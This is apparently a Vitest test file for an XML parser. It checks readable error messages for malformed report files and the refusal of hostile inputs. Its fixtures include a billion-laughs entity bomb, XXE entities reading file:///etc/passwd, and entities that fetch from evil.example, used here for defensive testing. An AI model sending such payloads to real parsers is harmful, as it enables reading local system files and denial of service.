import { describe, expect, test } from 'vitest';
import { parseXml } from '../../../../../server/adapters/hr5/xml/parse-xml.ts';

const AGAIN = 'Please export the file again from your report software.';

describe('a bad file is refused with one sentence that names line and element', () => {
  test.each([
    ['no XML at all', 'Dear Sir,', `Line 1: The file is not XML. ${AGAIN}`],
    ['only white space', '\n\n', `Line 3: The file is not XML. ${AGAIN}`],
    ['an end that is cut off', '<a>\n<b>\n', `Line 3, in <b>: The file ends before <b> of line 2 is closed. ${AGAIN}`],
    ['an element that is not closed', '<a>\n<b>\n</a>', `Line 3, in <b>: <b> of line 2 is not closed. ${AGAIN}`],
    [
      'an unknown entity',
      '<a>\n<b>x&nbsp;y</b></a>',
      'Line 2, in <b>: There is an entity that XML does not know, such as &nbsp;. Please replace it by its character.',
    ],
    [
      'an entity named like a property of objects',
      '<a>&constructor;</a>',
      'Line 1, in <a>: There is an entity that XML does not know, such as &nbsp;. Please replace it by its character.',
    ],
    [
      'a document type with an external entity',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>',
      'Line 1: The file has a document type (DOCTYPE), which is not allowed. Please remove it.',
    ],
    [
      'a bare ampersand',
      '<!-- R&D --><a><![CDATA[&]]>\n\n<b c="&lt;">Sons & Co</b>\n\n<c>&amp;</c></a>',
      'Line 3, in <b>: There is a bare "&". Please write it as "&amp;".',
    ],
    [
      'a bare ampersand and no semicolon after it',
      '<a>\nSons & Co</a>',
      'Line 2, in <a>: There is a bare "&". Please write it as "&amp;".',
    ],
    [
      'an attribute that stands twice',
      '<a><b c="1" c="2"/></a>',
      `Line 1, in <a>: The file is not well-formed XML (duplicate attribute: c). ${AGAIN}`,
    ],
    [
      'a second root',
      '<a/>\n<b/>',
      `Line 2: The file is not well-formed XML (documents may contain only one root). ${AGAIN}`,
    ],
    ['XML 1.1', '<?xml version="1.1"?><a/>', 'Line 1: The file is XML 1.1. Please save it as XML 1.0.'],
  ])('%s', (_, xml, sentence) => {
    expect(() => parseXml(Buffer.from(xml))).toThrow(
      expect.objectContaining({ code: 'UNPROCESSABLE_FILE', message: sentence }),
    );
  });
});

describe('a file that is made to do harm is refused', () => {
  const DOCTYPE = 'The file has a document type (DOCTYPE), which is not allowed. Please remove it.';
  const entities = (list: string) => `<!DOCTYPE a [\n${list}\n]>\n<a>&x;</a>`;

  test.each([
    [
      'a billion laughs',
      entities(
        `<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY x${n} "${`&${n ? `x${n - 1}` : 'lol'};`.repeat(10)}">`).join('\n')}<!ENTITY x "&x8;">`,
      ),
    ],
    ['an external entity', entities('<!ENTITY x SYSTEM "file:///etc/passwd">')],
    ['an external entity by its public name', entities('<!ENTITY x PUBLIC "-//A//B" "http://evil.example/x">')],
    ['a parameter entity', entities('<!ENTITY % p SYSTEM "http://evil.example/x.dtd">\n%p;')],
    ['an external document type', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">\n<a/>'],
    ['a default attribute', entities('<!ATTLIST a b CDATA "x">')],
  ])('%s', (_, xml) => {
    expect(() => parseXml(Buffer.from(xml))).toThrow(
      expect.objectContaining({ code: 'UNPROCESSABLE_FILE', message: expect.stringMatching(/^Line \d+: /) }),
    );
    expect(() => parseXml(Buffer.from(xml))).toThrow(DOCTYPE);
  });

  test('more than 64 levels', () => {
    const nested = (levels: number) => Buffer.from('<a>'.repeat(levels) + '</a>'.repeat(levels));
    const refusal = 'Line 1, in <a>: Elements stand more than 64 levels deep, which is more than can be read.';
    expect(() => parseXml(nested(64))).not.toThrow();
    expect(() => parseXml(nested(65))).toThrow(refusal);
    expect(() => parseXml(Buffer.from('<a>'.repeat(5_000_000)))).toThrow(refusal);
  });

  const TOO_MUCH = 'The file has more text and more parts than can be read. Please take out what is not needed.';

  test('more text or parts than memory is there for', () => {
    const xml = Buffer.from('<a><b c="1"/>x<!-- y --></a>');
    expect(() => parseXml(xml, 28 + 2 * 200 + 3 * 70)).not.toThrow();
    expect(() => parseXml(xml, 28 + 2 * 200 + 3 * 70 - 1)).toThrow(`Line 1, in <a>: ${TOO_MUCH}`);
    expect(() => parseXml(Buffer.from('<a>€€€€</a>'), 22 + 200 + 70)).not.toThrow();
    expect(() => parseXml(Buffer.from('<a>€€€€</a>'), 22 + 200 + 70 - 1)).toThrow(TOO_MUCH);
  });

  test.each([
    ['elements', `<a>${'<b/>'.repeat(1_000_000)}</a>`],
    ['attributes', `<a${Array.from({ length: 2_000_000 }, (_, n) => ` b${n}=""`).join('')}/>`],
    ['a text of entities', `<a>${'&lt;'.repeat(3_000_000)}`],
    ['an attribute of entities', `<a b="${'&lt;'.repeat(3_000_000)}`],
    ['a text of line ends', `<a>${'\r\n'.repeat(3_000_000)}`],
    ['a comment that does not end', `<a><!--${'- '.repeat(3_000_000)}`],
    ['a CDATA section that does not end', `<a><![CDATA[${'] '.repeat(3_000_000)}`],
    ['an instruction that does not end', `<a><?b ${'? '.repeat(3_000_000)}`],
    ['a document type that does not end', `<!DOCTYPE a [${'<!ENTITY b "c">'.repeat(1_000_000)}`],
  ])('too many %s', { timeout: 60_000 }, (_, xml) => {
    expect(() => parseXml(Buffer.from(xml))).toThrow(TOO_MUCH);
  });

  test.each([
    ['an element', `<${'a'.repeat(1_001)}/>`],
    ['an attribute', `<a ${'b'.repeat(1_001)}="1"/>`],
  ])('a name of %s that is longer than any is', (_, xml) => {
    expect(() => parseXml(Buffer.from(xml))).toThrow(
      'The name of an element or attribute is longer than 1,000 characters, which is more than can be read.',
    );
  });

  test('what it says is short, however long what it is about', () => {
    const long = 'x'.repeat(999);
    expect(() => parseXml(Buffer.from(`<a><${long}></a>`))).toThrow(
      `Line 1, in <${'x'.repeat(80)}…>: <${'x'.repeat(80)}…> of line 1 is not closed.`,
    );
    expect(() => parseXml(Buffer.from(`<a ${long}="1" ${long}="2"/>`))).toThrow(/\(duplicate attribute: x{59}…\)/);
  });
});

describe('a file that is decoded in several pieces', () => {
  const PIECE = 64 * 1024;
  const xml = '<a b="é€😀">\r\n<c>é€😀\r\n&amp;</c><![CDATA[]]]]><!-- – --><?p ?></a>';
  const whole = parseXml(Buffer.from(xml));

  test('is read as one that is decoded at once, wherever the pieces end', () => {
    for (let at = 0; at <= Buffer.byteLength(xml); at++) {
      const fill = `<!--${'x'.repeat(PIECE - at - 7)}-->`;
      const { root, lineBreak } = parseXml(Buffer.from(fill + xml));
      expect({ root, lineBreak }, `${at}`).toEqual({ root: whole.root, lineBreak: '\r\n' });
    }
  });

  test('knows the lines of its elements', () => {
    const lines = Array.from({ length: 20_000 }, (_, n) => `<b n="${n + 2}"/>`).join('\n');
    const { root } = parseXml(Buffer.from(`<a>\n${lines}</a>`));
    const wrong = root.children.filter((node) => node.kind === 'element' && String(node.line) !== node.attributes.n);
    expect(wrong).toEqual([]);
  });
});

test('each element knows its line', () => {
  const { root } = parseXml(Buffer.from('<!-- x\n -->\n<a\n b="1">\n<c/></a>'));
  expect([root.line, ...root.children.flatMap((node) => (node.kind === 'element' ? [node.line] : []))]).toEqual([3, 5]);
});
